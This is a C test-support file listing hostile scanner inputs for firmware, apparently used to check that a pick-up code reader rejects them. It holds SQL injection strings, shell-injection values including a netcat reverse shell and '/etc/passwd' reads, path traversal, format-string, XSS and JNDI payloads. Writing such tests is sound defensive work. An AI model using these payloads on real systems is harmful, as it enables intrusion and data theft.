#include "tests/support/scan_attacks.h"

#include "firmware/base/check.h"

#define ATTACK(text)                                                                               \
    {                                                                                              \
        text, sizeof(text) - 1                                                                     \
    }
#define MAC "AAAQEAYEAUDAOCAJBIFQYDIOB4"
#define TEN(text) text text text text text text text text text text

static const struct scan_attack attacks[] = {
    /* SQL, CVE-2023-3938 and its kin */
    ATTACK("' OR 1=1--"), ATTACK("1' OR '1'='1"), ATTACK("1 OR 1=1"), ATTACK("\" OR \"\"=\""),
    ATTACK("'; DROP TABLE cases;--"), ATTACK("1;SELECT * FROM USER_INFO"),
    ATTACK("') UNION SELECT pin FROM cards--"), ATTACK("LF26112200010' --"),
    ATTACK("LF26112200010;"), ATTACK("LF2611220001%"), ATTACK("LF26112_____7"),
    /* shells, CVE-2023-3939 */
    ATTACK("$(reboot)"), ATTACK("`id`"), ATTACK("; cat /etc/passwd"),
    ATTACK("| nc 10.0.0.1 4444 -e /bin/sh"), ATTACK("A && poweroff"), ATTACK("AAAA\nreboot"),
    /* paths, CVE-2023-3940 and 3941 */
    ATTACK("../../../etc/shadow"), ATTACK("..\\..\\windows\\win.ini"), ATTACK("/proc/self/mem"),
    ATTACK("....//....//etc/hosts"), ATTACK("%2e%2e%2f%2e%2e%2f"), ATTACK("file:///etc/passwd"),
    /* memory and format strings, CVE-2023-3943 */
    ATTACK("%n%n%n%n"), ATTACK("%s%s%s%s%s%s%s%s"), ATTACK("%08x.%08x.%08x"), ATTACK("%99999999d"),
    ATTACK("K1:%n%n%n%n%n%n:" MAC), ATTACK(TEN(TEN("AAAAA"))), ATTACK(TEN(TEN(TEN("A"))) "AAAA"),
    ATTACK(TEN("AAAAAA") "AAAAA"),
    /* addresses and what browsers run */
    ATTACK("http://example.org/"), ATTACK("HTTPS://EXAMPLE.ORG"), ATTACK("javascript:alert(1)"),
    ATTACK("<script>alert(1)</script>"), ATTACK("{{7*7}}"), ATTACK("${jndi:ldap://x/a}"),
    ATTACK("WIFI:T:WPA;S:free;P:12345678;;"), ATTACK("BEGIN:VCARD"), ATTACK("tel:+8610086"),
    ATTACK("weixin://wxpay/bizpayurl?pr=AbCdEf"), ATTACK("{\"case\":\"LF26112200010\"}"),
    /* almost a pick-up code */
    ATTACK("K1:"), ATTACK("K1::"), ATTACK("K1::" MAC), ATTACK("K1:MFRGGZDFMZTWQ2LK"),
    ATTACK("K1:MFRGGZDFMZTWQ2LK:"), ATTACK("k1:MFRGGZDFMZTWQ2LK:" MAC),
    ATTACK("K2:MFRGGZDFMZTWQ2LK:" MAC), ATTACK("K1:mfrggzdfmztwq2lk:" MAC),
    ATTACK("K1:MFRGGZDFMZTWQ2LK:" MAC ":"), ATTACK("K1:MFRGGZDFMZTWQ2LK:" MAC "\0"),
    ATTACK("K1:MFRGGZDFMZTWQ2LK:" MAC " "), ATTACK(" K1:MFRGGZDFMZTWQ2LK:" MAC),
    ATTACK("K1:MFRGGZDFMZTWQ2LK::" MAC), ATTACK("K1:MFRGGZDFMZTWQ2L0:" MAC),
    ATTACK("K1:MFRGGZDFMZTWQ2L=:" MAC),
    ATTACK("K1:MFRGGZDFMZTWQ2LK:AAAQEAYEAUDAOCAJBIFQYDIOB5"), /* the bits left over are not 0 */
    ATTACK("K1:MFRGGZDFMZTWQ2LKA:" MAC),                      /* a length that no bytes have */
    ATTACK("K1:MFRGGZDFM:" MAC), ATTACK("K1:MFRGGZDFMZTWQ2LK:AAAQEAYEAUDAOCAJBIFQYDIO"),
    /* almost a plain code */
    ATTACK(""), ATTACK("A"), ATTACK("---"), ATTACK("-AAAA"), ATTACK("AAAA-"), ATTACK("----"),
    ATTACK("aaaa"), ATTACK("AA AA"), ATTACK("AA_AA"), ATTACK("AA.AA"), ATTACK("AAAA\r"),
    ATTACK("AAAA\0BBBB"), ATTACK("\0\0\0\0"), ATTACK("\x1b[2J"), ATTACK("AAAA\x7f"),
    /* UTF-8 tricks */
    ATTACK("\xef\xbc\xa1\xef\xbc\xa1\xef\xbc\xa1\xef\xbc\xa1"), /* full-width A */
    ATTACK("\xd0\x90\xd0\x92\xd0\xa1\xd0\x95"),                 /* Cyrillic that looks Latin */
    ATTACK("AAAA\xe2\x80\xae"
           "BBBB"), /* right to left */
    ATTACK("AA\xe2\x80\x8b"
           "AA"),                               /* a space of no width */
    ATTACK("\xc0\xaf\xc0\xaf\xc0\xaf\xc0\xaf"), /* overlong */
    ATTACK("AAAA\xc1\x81"),
    ATTACK("\xff\xfe"
           "A\0A\0A\0A\0"),
    ATTACK("\xef\xbb\xbf"
           "AAAA"),
    ATTACK("\xed\xa0\x80\xed\xb0\x80"), ATTACK("\xf4\x90\x80\x80"),
    ATTACK("\xe6\x88\x91\xe7\x9a\x84\xe5\x81\xa5\xe5\xba\xb7\xe7\xa0\x81"), /* 我的健康码 */
};

size_t scan_attacks_count(void)
{
    return COUNT_OF(attacks);
}

const struct scan_attack *scan_attacks_at(size_t index)
{
    return &attacks[index];
}

bool scan_attacks_is_typed(const struct scan_attack *attack)
{
    for (size_t i = 0; i < attack->size; i++)
        if (attack->bytes[i] < ' ' || attack->bytes[i] > '~')
            return false;
    return attack->size > 0;
}
